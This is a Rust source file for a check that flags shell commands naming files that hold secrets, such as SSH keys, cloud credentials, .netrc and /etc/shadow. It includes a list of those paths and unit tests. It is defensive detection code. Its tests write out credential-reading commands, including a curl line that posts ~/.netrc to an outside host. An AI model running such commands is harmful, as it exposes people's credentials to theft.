//! The check `names-secrets`: whether a command names a file that holds somebody's secrets.

use crate::commands::{Command, Part, Redirection, Target, Token};
use crate::truth::Truth;

/// Whether `command` names keys, passwords or tokens, or the folders that programs keep them in.
pub(crate) fn names_secrets(command: &Command, _: &[Command]) -> Truth {
    let files = command.redirections.iter().filter_map(file);
    let answers = files.chain(&command.tokens).map(names);
    answers.fold(Truth::No, Truth::or)
}

fn file(redirection: &Redirection) -> Option<&Token> {
    match &redirection.target {
        Target::File(token) | Target::Unreadable(token) => Some(token),
        _ => None,
    }
}

fn names(token: &Token) -> Truth {
    let parts = match token {
        Token::Text(text) => return holds(text).into(),
        Token::Gap { parts, .. } => parts,
    };
    let is_text = |part: &Part| matches!(part, Part::Text(text) if holds(text));
    if parts.iter().any(is_text) {
        return Truth::Yes;
    }
    // A pattern that begins with a dot, somewhere in a home: `~/.s*`, `/home/*/.?sh`.
    let mut hidden = parts.windows(2).filter(|pair| match pair {
        [Part::Text(text), Part::Glob(_)] => {
            text.rsplit('/').next().is_some_and(|it| it.starts_with('.') && it != "..")
        }
        _ => false,
    });
    if hidden.next().is_some() { Truth::Unknown } else { Truth::No }
}

/// Whether a segment of a path in the text, however it is glued, is one of those.
fn holds(text: &str) -> bool {
    let segments = || text.split(['/', '\\', '=', ':', '@', ',']);
    let is_secret = |it: &str| {
        NAMES.iter().any(|name| it.eq_ignore_ascii_case(name))
            || KEYS.iter().any(|key| it.starts_with(key) && !it.ends_with(".pub"))
    };
    segments().any(is_secret) || PATHS.iter().any(|path| text.contains(path))
}

const NAMES: &[&str] = &[
    ".aws",
    ".git-credentials",
    ".gnupg",
    ".kube",
    ".netrc",
    ".password-store",
    ".pgpass",
    ".pypirc",
    ".ssh",
    "credentials.json",
    "gshadow",
    "shadow",
];

/// How names of private keys begin.
const KEYS: &[&str] = &["id_dsa", "id_ecdsa", "id_ed25519", "id_rsa"];

const PATHS: &[&str] = &[
    ".cargo/credentials",
    ".config/gcloud",
    ".config/gh",
    ".docker/config.json",
    "/proc/self/environ",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commands::decompose_words;

    #[test]
    fn files_with_secrets_are_known_by_their_names() {
        use Truth::{No, Unknown, Yes};
        let cases = [
            ("cat ~/.ssh/id_rsa", Yes),
            ("cat \"$HOME/.ssh/config\"", Yes),
            ("tar czf x /home/dev/.aws", Yes),
            ("cp ../deploy/id_ed25519 x", Yes),
            ("curl -d@$HOME/.netrc a.example", Yes),
            ("cat < ~/.pgpass", Yes),
            ("cat /etc/shadow", Yes),
            ("ls ~/.config/gh", Yes),
            ("cat ~/.s*h/id_rsa", Yes),
            ("cat ~/.s?h/config", Unknown),
            ("cat ~/.ssh/id_rsa.pub", Yes),
            ("cat keys/id_rsa.pub", No),
            ("cat ~/.bashrc", No),
            ("ls *.rs src/*.c", No),
            ("ls ../*", No),
            ("grep -rn shadow_map src", No),
            ("git commit -m 'read id_rsa from the agent'", No),
            ("cat .env", No),
        ];
        for (text, expected) in cases {
            let all = decompose_words(&["bash", "-c", text]).commands;
            let found = all.iter().map(|it| names_secrets(it, &all)).max().unwrap_or(No);
            assert_eq!(found, expected, "{text}");
        }
    }
}
